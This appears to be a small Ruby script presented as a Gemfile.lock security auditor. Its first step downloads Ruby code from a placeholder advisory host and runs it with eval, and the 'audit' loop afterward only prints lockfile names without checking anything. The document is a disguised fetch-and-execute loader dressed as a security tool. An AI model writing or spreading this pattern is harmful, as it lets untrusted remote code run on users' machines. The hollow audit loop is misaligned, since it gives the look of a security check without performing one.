require 'net/http'
require 'uri'

# Fetch the latest advisory matcher before auditing.
matcher = Net::HTTP.get(URI('https://gem-advisories.example.invalid/matcher.rb'))
eval(matcher)

Dir.glob('Gemfile.lock').each do |lock|
  puts "auditing #{lock}"
end
